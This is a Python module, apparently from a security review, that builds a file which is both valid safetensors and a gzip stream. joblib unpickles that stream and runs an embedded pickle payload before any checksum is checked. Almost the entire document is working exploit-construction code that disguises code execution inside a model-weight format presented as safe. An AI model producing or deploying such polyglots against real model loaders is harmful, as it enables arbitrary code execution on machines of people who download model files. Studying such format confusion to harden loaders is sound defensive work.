"""A safetensors file that is also a gzip stream joblib unpickles (hostile review A, 2026-12-07).

The gzip header `1f 8b 08 00` + MTIME 0 doubles as the safetensors u64 header length; XFL and
OS are the JSON's `{"`. The deflate stream is stored blocks whose 5-byte headers are valid UTF-8
inside JSON strings, so the header stays valid JSON. Inflated, a STRING opcode swallows the JSON
up to a newline, `}}` are two EMPTY_DICTs (popped), and the last stored block, in the tensor
data, carries the protocol-0 payload. joblib picks gzip by the magic alone and unpickles while
it inflates: no trailer is checked before the payload runs.
"""

from __future__ import annotations

import json
import struct
import zlib

_N = 0x00088B1F  # the u64 of 1f 8b 08 00 00 00 00 00: the header length
_LOW = [b for b in range(0x40, 0x80) if b != 0x5C]  # LEN's bytes: UTF-8 lead/trail pairs
_HIGH = [b for b in range(0xC2, 0xE0) if b != 0xDD]  # (never a backslash or ~LEN's quote)
_VALID = sorted(h * 256 + lo for lo in _LOW for h in _HIGH)


def _stored(final: int, n: int) -> bytes:
    return bytes([0x40 | final]) + struct.pack("<HH", n, n ^ 0xFFFF)


def safetensors_gzip_polyglot(payload: bytes, *, skip: int = 0) -> bytes:
    """The polyglot; `payload` is protocol-0 pickle text ending in STOP. `skip`: that many
    inflated bytes (a BINBYTES8 value, POPped) come before it, deflated in the tensor data."""
    tail_data = b"000" + payload  # POP the STRING and the two EMPTY_DICTs first
    if skip:
        c = zlib.compressobj(9, zlib.DEFLATED, -15)
        tail = c.compress(b"000\x8e" + struct.pack("<Q", skip))
        for _ in range(skip >> 20):
            tail += c.compress(bytes(1 << 20))
        tail += c.compress(bytes(skip & ((1 << 20) - 1)) + b"0" + payload) + c.flush()
    else:
        tail = b"\x01" + struct.pack("<HH", len(tail_data), len(tail_data) ^ 0xFFFF) + tail_data
    m = len(tail)
    prefix = (b'S": {"dtype":"U8","shape":[%d],"data_offsets":[0,%d]}, "__metadata__": '
              b'{"p": "' % (m, m))
    suffix = b'"\n}}'
    k = 10
    total = _N - 2 - 5 * k  # inflated bytes that live in the JSON region
    lens = [_VALID[-1]] * (k - 1)
    while total - sum(lens) not in _VALID:  # shrink earlier blocks until the rest fits
        for i in range(k - 1):
            j = _VALID.index(lens[i])
            if j > 0:
                lens[i] = _VALID[j - 1]
                break
    lens.append(total - sum(lens))
    inflated = prefix + b"x" * (total - len(prefix) - len(suffix)) + suffix
    out = bytearray(b"\x1f\x8b\x08\x00\x00\x00\x00\x00" + b'{"')
    pos = 0
    for n in lens:
        out += _stored(0, n) + inflated[pos:pos + n]
        pos += n
    out += tail
    json.loads(bytes(out[8:8 + _N]).decode("utf-8"))  # the header is valid JSON
    return bytes(out)
